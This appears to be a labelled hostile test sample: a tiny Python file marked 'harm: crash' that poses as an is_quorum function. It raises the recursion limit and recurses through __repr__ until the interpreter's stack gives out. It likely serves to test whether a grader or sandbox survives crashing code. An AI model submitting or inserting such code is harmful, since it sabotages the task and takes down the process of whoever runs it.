# harm: crash
# It recurses until the stack of the process ends.
import sys

sys.setrecursionlimit(10**9)


class Deep:
    def __getattr__(self, name):
        return repr([self])

    def __repr__(self):
        return repr([self])


def is_quorum(node, nodes):
    return repr(Deep())
